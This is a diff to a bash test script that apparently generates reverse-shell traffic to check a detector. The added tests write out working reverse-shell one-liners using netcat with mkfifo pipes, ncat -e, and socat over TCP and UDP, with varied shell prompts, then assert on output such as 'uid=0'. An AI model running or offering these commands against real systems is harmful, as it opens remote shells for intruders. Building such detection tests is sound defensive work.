@@ -22,6 +22,19 @@ hit_mkfifo() {
     reverse "${LINES_[@]}" -- sh -c "mkfifo $pipe; sh -i <$pipe 2>&1 | nc.openbsd -q 1 $OUT 4444 >$pipe; rm -f $pipe"
 }
 hit_whoami_only() { reverse typed 0.7 whoami -- ncat $OUT 4444 -e /bin/sh; has_text 'root'; }
+decorated() { # PROMPT : what a person who likes prompts has, in a terminal
+    reverse keyed id 'uname -s' exit -- env LC_ALL=C.UTF-8 "PS1=$1" socat TCP:$OUT:4444 EXEC:'bash --norc -i',pty,stderr,setsid,sigint,sane
+    has "$(printf '\033[?2004h' | od -An -tx1 | tr -d ' \n')"; has_text 'uid=0'
+}
+hit_prompt_kali() { decorated '┌──(\u㉿\h)-[\w]\n└─\$ '; }
+hit_prompt_time() { decorated '\t \u@\h:\w\$ '; }
+hit_prompt_venv() { decorated '(venv) [\u@\h:\w] {1} \$ '; }
+hit_udp_socat() { datagrams "${LINES_[@]}" -- socat -T 5 UDP:$OUT:4444 EXEC:'bash --norc -i',stderr; has_datagram 'no job control'; has_datagram 'uid=0'; }
+hit_udp_pty() { datagrams "${KEYS[@]}" -- socat -T 5 UDP:$OUT:4444 EXEC:'bash --norc -i',pty,stderr,setsid,sigint,sane; has_datagram 'Linux'; }
+hit_udp_mkfifo() {
+    local pipe; pipe=$(mktemp -u)
+    datagrams "${LINES_[@]}" -- sh -c "mkfifo $pipe; sh -i <$pipe 2>&1 | nc.openbsd -u -w 5 $OUT 4444 >$pipe; rm -f $pipe"; has_datagram 'uid=0'
+}
 
 hit_snap96() {
     hit_bash_dev_tcp; editcap -F pcap -s 96 "$PCAP" "$W/snap"; mv "$W/snap" "$PCAP"
